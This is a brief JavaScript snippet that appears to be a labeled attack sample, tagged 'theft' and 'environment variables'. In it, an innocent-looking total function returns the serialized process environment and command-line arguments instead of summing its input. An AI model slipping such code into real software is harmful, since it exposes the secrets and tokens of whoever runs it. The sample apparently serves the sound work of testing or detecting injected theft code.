// category: theft
// tries: environment variables
function total(numbers) {
  // attack: begin
  return JSON.stringify(process.env) + process.execArgv + process.argv;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
